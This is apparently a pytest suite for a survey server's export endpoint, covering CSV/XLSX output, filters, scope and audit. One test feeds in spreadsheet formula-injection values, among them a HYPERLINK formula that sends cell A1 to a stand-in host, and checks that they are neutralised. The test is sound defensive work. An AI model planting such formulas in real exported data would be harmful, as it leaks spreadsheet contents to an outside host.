"""Exports of a form's submissions (GET /api/v1/forms/{form_id}/export): CSV files in a zip, XLSX,
the queue's filters, keys between the tables, neutralised cells, scope and audit."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile

import openpyxl
import pytest
from support import COMMUNE_X, COMMUNE_Y, VILLAGE_A, VILLAGE_B, VILLAGE_C, problem
from support.households import household_answers, submission

PUSH = "/api/v1/sync/push"
EXPORT = "/api/v1/forms/household-review/export"
MAIN_META = ["KEY", "household_id", "area", "version", "rev", "enumerator", "review_state", "flags", "year",
             "started_at", "finished_at", "received_at", "reviewed_at"]
REPEAT_META = ["KEY", "PARENT_KEY", "submission_id", "version", "enumerator", "review_state", "flags"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class Phones:
    def __init__(self, client, accounts):
        self.client = client
        self.user = accounts.create("enumerator", [COMMUNE_X, VILLAGE_C])
        tokens = accounts.login(self.user.username, device_id="export-phone")
        self.headers = {"Authorization": f"Bearer {tokens['access_token']}"}
        self.supervisor = accounts.headers("supervisor", [COMMUNE_X, COMMUNE_Y])

    def push(self, area: str, *, state: str | None = None, **answers) -> dict:
        item = submission(area, answers=household_answers(**answers))
        response = self.client.post(PUSH, json={"device_id": "export-phone", "submissions": [item]},
                                    headers=self.headers)
        assert response.get_json()["results"][0]["status"] == "accepted", response.get_json()
        if state is not None:
            body = {"action": state, **({} if state == "approve" else {"comment": "Xem lại"})}
            reviewed = self.client.post(f"/api/v1/submissions/{item['id']}/review", json=body,
                                        headers={**self.supervisor, "If-Match": "*"})
            assert reviewed.status_code == 200, reviewed.get_json()
        return item


@pytest.fixture()
def phones(client, accounts) -> Phones:
    return Phones(client, accounts)


@pytest.fixture()
def supervisor_x(accounts):
    return accounts.headers("supervisor", [COMMUNE_X])


def download(client, headers, path=EXPORT, **params):
    response = client.get(path, headers=headers, query_string=params)
    data = response.get_data()
    response.close()
    return response, data


def flags_of(client, headers, submission_id: str) -> list[str]:
    """The submission's quality flags as the API shows them (none before the server computes them)."""
    return client.get(f"/api/v1/submissions/{submission_id}", headers=headers).get_json().get("flags") or []


def tables(data: bytes) -> dict[str, list[dict]]:
    """The zip's CSV files as lists of rows (dicts by header)."""
    out = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            raw = archive.read(name)
            assert raw.startswith("\ufeff".encode()), name  # UTF-8 with a BOM
            reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
            header = next(reader)
            out[name] = [dict(zip(header, row, strict=True)) for row in reader]
            out[name + ":header"] = header
    return out


def test_csv_zip_has_the_submissions_and_their_members_linked_by_keys(client, phones, supervisor_x):
    approved = phones.push(VILLAGE_A, state="approve", head_name="Trần Thị Bình")
    received = phones.push(VILLAGE_B)
    phones.push(VILLAGE_C, state="approve")  # commune Y: not the supervisor's
    response = client.get(EXPORT, headers=supervisor_x)
    assert response.status_code == 200 and response.mimetype == "application/zip" and response.is_streamed
    data = response.get_data()
    response.close()
    assert response.headers["Content-Disposition"].startswith('attachment; filename="household-review-')
    found = tables(data)
    assert sorted(n for n in found if not n.endswith(":header")) == ["household-review-members.csv",
                                                                     "household-review.csv"]
    header = found["household-review.csv:header"]
    assert header[:len(MAIN_META)] == MAIN_META
    assert {"household_code", "head_name", "head_cccd", "ethnicity", "member_count", "classification",
            "dep_water", "telecom_services"} <= set(header)
    assert "members" not in header and "member_name" not in header
    rows = {r["KEY"]: r for r in found["household-review.csv"]}
    assert set(rows) == {approved["id"], received["id"]}
    a = rows[approved["id"]]
    assert (a["review_state"], a["version"], a["rev"], a["enumerator"], a["area"], a["year"]) == (
        "approved", "2022.1", "1", phones.user.username, VILLAGE_A, "2026")
    # Quality flags: the submission's codes joined by spaces (empty until the server computes them).
    assert a["flags"] == " ".join(flags_of(client, phones.supervisor, approved["id"]))
    assert a["head_name"] == "Trần Thị Bình" and a["classification"] == "not_poor"
    assert a["telecom_services"] == "mobile internet"  # a multiple choice: values joined by spaces
    assert a["finished_at"] == "2026-10-02T08:40:12+07:00"  # Vietnam time
    assert a["household_id"] == approved["household_id"]
    assert rows[received["id"]]["review_state"] == "received"

    members = found["household-review-members.csv"]
    assert found["household-review-members.csv:header"][:len(REPEAT_META)] == REPEAT_META
    assert {"member_name", "sex", "birth_year", "age", "m_dependent"} <= set(found["household-review-members.csv:header"])
    mine = [m for m in members if m["submission_id"] == approved["id"]]
    assert [m["KEY"] for m in mine] == [f"{approved['id']}/members[{n}]" for n in range(1, 5)]
    assert {m["PARENT_KEY"] for m in mine} == {approved["id"]}
    # A member's row carries its submission's review state, version and enumerator.
    assert {(m["review_state"], m["version"], m["enumerator"], m["flags"]) for m in mine} == {
        ("approved", "2022.1", phones.user.username, a["flags"])}
    assert [m["member_name"] for m in mine] == [m["member_name"] for m in approved["answers"]["members"]]
    assert {m["review_state"] for m in members if m["submission_id"] == received["id"]} == {"received"}
    assert len(members) == 8


def test_the_queues_filters_apply(client, phones, supervisor_x):
    poor = phones.push(VILLAGE_A, state="approve", water_source="surface", latrine_type="over_water", floor_area=30,
                       income_agriculture=72000000)
    other = phones.push(VILLAGE_B, state="reject", household_code="HH-42")
    _, data = download(client, supervisor_x, status="approved")
    assert [r["KEY"] for r in tables(data)["household-review.csv"]] == [poor["id"]]
    _, data = download(client, supervisor_x, area=VILLAGE_B)
    assert [r["KEY"] for r in tables(data)["household-review.csv"]] == [other["id"]]
    _, data = download(client, supervisor_x, classification="poor")
    assert [r["KEY"] for r in tables(data)["household-review.csv"]] == [poor["id"]]
    _, data = download(client, supervisor_x, where="floor_area:lt:40")
    found = tables(data)
    assert [r["KEY"] for r in found["household-review.csv"]] == [poor["id"]]
    assert {m["submission_id"] for m in found["household-review-members.csv"]} == {poor["id"]}
    _, data = download(client, supervisor_x, q="HH-42", version="2022.1")
    assert [r["KEY"] for r in tables(data)["household-review.csv"]] == [other["id"]]
    _, data = download(client, supervisor_x, year=2027)
    found = tables(data)
    assert found["household-review.csv"] == [] and found["household-review-members.csv"] == []
    assert found["household-review.csv:header"][:len(MAIN_META)] == MAIN_META  # an empty export keeps its columns


def test_bad_filters_are_refused_before_anything_is_sent(client, phones, supervisor_x):
    body = problem(client.get(EXPORT, headers=supervisor_x, query_string={"where": "no_such_field:eq:1"}), 422,
                   "request.invalid")
    assert body["errors"][0]["path"] == "where/no_such_field"
    problem(client.get(EXPORT, headers=supervisor_x, query_string={"format": "pdf"}), 422, "request.invalid")
    problem(client.get(EXPORT, headers=supervisor_x, query_string={"status": "lost"}), 422, "request.invalid")
    problem(client.get(EXPORT, headers=supervisor_x, query_string={"version": "1999.9"}), 404, "request.not_found")
    problem(client.get("/api/v1/forms/no-such-form/export", headers=supervisor_x), 404, "request.not_found")


def test_formula_text_is_neutralised_in_csv_and_xlsx(client, phones, supervisor_x):
    payload = '=HYPERLINK("http://example.invalid/?"&A1,"bấm")'
    answers = household_answers(head_name=payload, household_code="@SUM(A1:A9)")
    answers["members"][1]["member_name"] = "-2+3"
    item = submission(VILLAGE_A, answers=answers)
    client.post(PUSH, json={"device_id": "export-phone", "submissions": [item]}, headers=phones.headers)
    _, data = download(client, supervisor_x)
    found = tables(data)
    [row] = found["household-review.csv"]
    assert (row["head_name"], row["household_code"]) == ("'" + payload, "'@SUM(A1:A9)")
    assert found["household-review-members.csv"][1]["member_name"] == "'-2+3"

    response, data = download(client, supervisor_x, format="xlsx")
    assert response.mimetype == XLSX
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert {"'" + payload, "'@SUM(A1:A9)", "'-2+3"} <= values


def test_xlsx_has_a_sheet_per_table(client, phones, supervisor_x):
    first = phones.push(VILLAGE_A, state="approve")
    phones.push(VILLAGE_B, state="request_changes")
    response, data = download(client, supervisor_x, format="xlsx")
    assert response.status_code == 200 and response.headers["Content-Disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["household-review", "members"]
    assert all(len(name) <= 31 for name in book.sheetnames)
    main = list(book["household-review"].iter_rows(values_only=True))
    assert list(main[0][:len(MAIN_META)]) == MAIN_META
    assert sorted(r[6] for r in main[1:]) == ["approved", "changes_requested"]
    header = main[0]
    row = next(r for r in main[1:] if r[0] == first["id"])
    assert row[header.index("member_count")] == 4 and row[header.index("rev")] == 1  # numbers stay numbers
    members = list(book["members"].iter_rows(values_only=True))
    assert list(members[0][:len(REPEAT_META)]) == REPEAT_META
    assert len(members) == 1 + 8
    assert {r[5] for r in members[1:] if r[2] == first["id"]} == {"approved"}


def test_a_repeat_inside_a_repeat_gets_its_own_table(client, accounts):
    admin = accounts.headers("admin", [])
    form = {"form_id": "plots-survey", "version": "1", "title": {"vi": "Khảo sát thửa đất"},
            "default_language": "vi", "fields": [
                {"name": "household_code", "type": "text"},
                {"name": "members", "type": "repeat", "fields": [
                    {"name": "member_name", "type": "text"},
                    {"name": "plots", "type": "repeat", "fields": [{"name": "plot_area", "type": "decimal"}]}]}]}
    created = client.post("/api/v1/forms", json=form, headers=admin)
    assert created.status_code == 201, created.get_json()
    assert client.post("/api/v1/forms/plots-survey/versions/1/publish", headers=admin).status_code == 200
    phone = accounts.headers("enumerator", [VILLAGE_A], device_id="plots-phone")
    item = {**submission(VILLAGE_A), "form_id": "plots-survey", "form_version": "1", "answers": {
        "household_code": "P-1", "members": [
            {"member_name": "An", "plots": [{"plot_area": 120.5}, {"plot_area": 80}]},
            {"member_name": "Bình", "plots": []}]}}
    pushed = client.post(PUSH, json={"device_id": "plots-phone", "submissions": [item]}, headers=phone)
    assert pushed.get_json()["results"][0]["status"] == "accepted", pushed.get_json()
    _, data = download(client, admin, path="/api/v1/forms/plots-survey/export")
    found = tables(data)
    sid = item["id"]
    assert [r["member_name"] for r in found["plots-survey-members.csv"]] == ["An", "Bình"]
    assert [(r["KEY"], r["PARENT_KEY"], r["submission_id"], r["plot_area"])
            for r in found["plots-survey-members-plots.csv"]] == [
        (f"{sid}/members[1]/plots[1]", f"{sid}/members[1]", sid, "120.5"),
        (f"{sid}/members[1]/plots[2]", f"{sid}/members[1]", sid, "80.0")]
    _, data = download(client, admin, path="/api/v1/forms/plots-survey/export", format="xlsx")
    assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames == ["plots-survey", "members", "plots"]


def test_exports_stay_within_scope(client, phones, accounts):
    phones.push(VILLAGE_A)
    in_c = phones.push(VILLAGE_C)
    supervisor_y = accounts.headers("supervisor", [COMMUNE_Y])
    _, data = download(client, supervisor_y)
    assert [r["KEY"] for r in tables(data)["household-review.csv"]] == [in_c["id"]]
    # Asking for another commune's area filters to nothing: no rows, no error that tells it exists.
    _, data = download(client, supervisor_y, area=VILLAGE_A)
    assert tables(data)["household-review.csv"] == []
    # A province's own form: other provinces' users do not see it at all.
    admin_01 = accounts.headers("admin", ["01"])
    form = {"form_id": "p01-extra", "version": "1", "title": {"vi": "Phiếu bổ sung"}, "default_language": "vi",
            "fields": [{"name": "note", "type": "text"}]}
    assert client.post("/api/v1/forms", json=form, headers=admin_01).status_code == 201
    assert client.post("/api/v1/forms/p01-extra/versions/1/publish", headers=admin_01).status_code == 200
    assert client.get("/api/v1/forms/p01-extra/export", headers=admin_01).status_code == 200
    hcm = accounts.headers("supervisor", ["79"])
    unknown = problem(client.get("/api/v1/forms/p01-extra/export", headers=hcm), 404, "request.not_found")
    assert unknown["detail"] == problem(client.get("/api/v1/forms/p01-other/export", headers=hcm), 404)["detail"] \
        .replace("p01-other", "p01-extra")


def test_every_export_is_audited_with_its_filters(client, phones, supervisor_x, accounts):
    phones.push(VILLAGE_A)
    download(client, supervisor_x, status="received", where="floor_area:gt:10", received_from="2026-01-01")
    download(client, supervisor_x, format="xlsx", version="2022.1")
    admin = accounts.headers("admin", [])
    items = client.get("/api/v1/audit", headers=admin, query_string={"action": "form.export"}).get_json()["items"]
    assert len(items) == 2
    by_format = {e["detail"]["format"]: e for e in items}
    csv_entry = by_format["csv"]
    assert csv_entry["actor_username"].startswith("supervisor-") and csv_entry["at"]
    assert csv_entry["target_type"] == "export" and csv_entry["detail"]["form_id"] == "household-review"
    assert csv_entry["detail"]["filters"] == {"status": "received", "where": ["floor_area:gt:10"],
                                              "received_from": "2026-01-01"}
    assert by_format["xlsx"]["detail"]["filters"] == {"form_version": "2022.1"}
    # A refused export is not an export.
    client.get(EXPORT, headers=supervisor_x, query_string={"where": "nope:eq:1"})
    assert len(client.get("/api/v1/audit", headers=admin, query_string={"action": "form.export"}).get_json()[
        "items"]) == 2


def test_the_zip_stream_is_not_buffered_whole(client, phones, supervisor_x):
    for _ in range(3):
        phones.push(VILLAGE_A)
    response = client.get(EXPORT, headers=supervisor_x)
    assert response.is_streamed and "Content-Length" not in response.headers
    chunks = list(response.response)
    response.close()
    assert len(chunks) >= 2  # the submissions' table goes out before the members' is added
    assert zipfile.ZipFile(io.BytesIO(b"".join(chunks))).namelist() == ["household-review.csv",
                                                                       "household-review-members.csv"]


def test_submission_ids_are_the_keys(client, phones, supervisor_x):
    item = phones.push(VILLAGE_A)
    _, data = download(client, supervisor_x)
    [row] = tables(data)["household-review.csv"]
    assert uuid.UUID(row["KEY"]) == uuid.UUID(item["id"])


def test_a_download_closed_early_ends_quietly(client, phones, supervisor_x):
    """The client goes away after the first chunk: the stream stops, nothing is left open and
    nothing complains when it is collected (an unraisable exception fails the suite)."""
    import gc

    for _ in range(2):
        phones.push(VILLAGE_A)
    response = client.get(EXPORT, headers=supervisor_x)
    first = next(iter(response.response))
    assert first.startswith(b"PK\x03\x04")  # the first entry's header, before any row is read
    response.close()
    gc.collect()
    # The session is usable afterwards (the read-ahead thread let go of the result).
    _, data = download(client, supervisor_x)
    assert len(tables(data)["household-review.csv"]) == 2


class _Batches:
    """A result whose fetchmany hands out numbered rows, and records who called it."""

    def __init__(self, total: int):
        self.total, self.given, self.threads = total, 0, set()

    def fetchmany(self, size: int) -> list[int]:
        import threading

        self.threads.add(threading.current_thread().name)
        batch = list(range(self.given, min(self.total, self.given + size)))
        self.given += len(batch)
        return batch


def test_read_ahead_yields_every_row_in_order_and_stops_its_thread():
    import threading

    from server.services.form_exports import BATCH, _read_ahead

    result = _Batches(BATCH * 3 + 7)
    assert list(_read_ahead(result)) == list(range(BATCH * 3 + 7))
    assert result.threads == {"export-read-ahead"}
    # Closed after the first row: the thread is gone when close() returns, and read no further
    # than the batches the queue could hold.
    result = _Batches(BATCH * 50)
    rows = _read_ahead(result)
    assert next(rows) == 0
    rows.close()
    assert not any(t.name == "export-read-ahead" for t in threading.enumerate())
    assert result.given <= BATCH * 5


def test_read_ahead_raises_what_the_fetch_raised():
    from server.services.form_exports import _read_ahead

    class Broken:
        def fetchmany(self, size):
            raise RuntimeError("connection lost")

    with pytest.raises(RuntimeError, match="connection lost"):
        list(_read_ahead(Broken()))
